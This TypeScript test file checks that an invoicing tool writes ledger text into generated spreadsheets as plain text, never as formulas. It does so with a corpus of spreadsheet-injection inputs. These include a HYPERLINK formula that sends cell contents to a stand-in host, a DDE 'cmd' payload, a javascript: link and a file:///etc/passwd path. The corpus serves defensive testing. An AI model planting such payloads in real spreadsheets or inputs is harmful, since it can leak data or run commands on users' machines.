import { draftInvoices } from "../../src/application/drafting/draftInvoices";
import { readBilling } from "../../src/application/readBilling";
import type { LocalDate } from "../../src/domain/calendar/localDate";
import { nodeDeflate } from "../../src/host/codec/nodeDeflate";
import { readWorkbook } from "../../src/host/codec/readWorkbook";
import type { Sheet } from "../../src/host/model/sheet";
import { describeWithLibreOffice, recalculated } from "../support/libreOffice";
import { openBook, type OpenBook } from "../support/openBook";
import { workbookOf, type SheetLiterals } from "../support/sheetLiteral";

const today = "2026-11-20" as LocalDate;

/** Texts that a spreadsheet, a file format or a sheet name could take for something else. */
const corpus: readonly string[] = [
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "=1\n=2",
  "'quoted",
  "''twice",
  "1/2",
  "2026-01-01",
  "1e5",
  "007",
  "TRUE",
  "#hashtag",
  "# 3",
  "javascript:alert(1)",
  "file:///etc/passwd",
  "<b>&amp;</b>",
  "]]><x/>",
  "_x0041_",
  "a\u0001b\u001fc",
  "tab\there",
  "\u202eright to left",
  "\u{1F469}\u200d\u{1F4BB} \u{1F1EB}\u{1F1F7}",
  "e\u0301 and \u00e9",
  "Ω≈ç√∫ 漢字",
  "{0} {name} %s",
  "x".repeat(32_767),
];

/** One row of time per text, a line of the invoice each, for a client whose name breaks sheet names. */
function ledgers(clientName: string): SheetLiterals {
  return {
    Projects: [
      ["Project", "Client", "Billing method", "Group by"],
      ["Website", clientName, "Time and materials", "Entry"],
    ],
    Time: [
      ["Date", "Project", "Task", "Person", "Hours", "Description"],
      ...corpus.map((text, index) => ["2026-05-04", "Website", "Design", "Ann", 1 + index / 4, text] as const),
    ],
    Rates: [
      ["Project", "Rate"],
      ["Website", 100],
    ],
    Clients: [
      ["Client", "Billing address", "Country", "Tax"],
      [clientName, "=1+1\n'[x]!A1", "FR", "20 %"],
    ],
    Settings: [
      ["Key", "Value"],
      ["Seller name", "=Studio"],
      ["Address", "@home"],
      ["Country", "FR"],
    ],
  };
}

const clientName = "=A1/B:C*[D]?'History'";

async function drafted(): Promise<OpenBook> {
  const book = await openBook(workbookOf(ledgers(clientName)));
  const billing = await readBilling(book.environment);
  const { value } = await draftInvoices(book.environment, billing, { filters: [{}], date: today });
  expect(value).toHaveLength(1);
  return book;
}

function placesOf({ cells }: Sheet): { readonly row: number; readonly column: number }[] {
  return Array.from({ length: cells.columnCount }, (_, column) =>
    Array.from({ length: cells.rowCount(column) }, (__, row) => ({ row, column })),
  ).flat();
}

function textsOf(sheet: Sheet): string[] {
  return placesOf(sheet).flatMap(({ row, column }) => {
    const value = sheet.cells.value(row, column);
    return typeof value === "string" ? [value] : [];
  });
}

/** Formulas that are not the sheet's own: its own calculate amounts or lead somewhere in the workbook. */
function foreignFormulas(sheet: Sheet): string[] {
  const own = /^=(ROUND\(|HYPERLINK\("#|[A-Z]+\d+$|SUM|IF\()/;
  return placesOf(sheet).flatMap(({ row, column }) => {
    const formula = sheet.cells.formula(row, column);
    return formula === undefined || own.test(formula) ? [] : [formula];
  });
}

test("whatever a ledger says is printed as the text it is, and is no formula", async () => {
  const book = await drafted();
  const tab = book.workbook.sheets.find(({ name }) => name.startsWith("D-0001"))!;
  const texts = textsOf(tab);
  expect(corpus.filter((text) => !texts.includes(text.trim()))).toEqual([]);
  expect(texts).toContain(clientName);
  expect(texts).toContain("=Studio");
  expect(foreignFormulas(tab)).toEqual([]);
  expect(tab.name).not.toMatch(/[\\/?*:[\]]|^'|'$/);
  book.close();
});

describeWithLibreOffice("after a file and another spreadsheet", () => {
  test("the texts are the same, and still no formulas", async () => {
    const book = await drafted();
    const bytes = book.toFile();
    book.close();
    const workbook = readWorkbook(recalculated(bytes), "Recalculated.xlsx", nodeDeflate);
    const tab = workbook.sheets.find(({ name }) => name.startsWith("D-0001"))!;
    const texts = textsOf(tab);
    const lineEnds = (text: string) => text.replace(/\r\n?/g, "\n");
    const kept = new Set(texts.map(lineEnds));
    expect(corpus.filter((text) => !kept.has(lineEnds(text.trim())))).toEqual([]);
    expect(foreignFormulas(tab)).toEqual([]);
  });
});
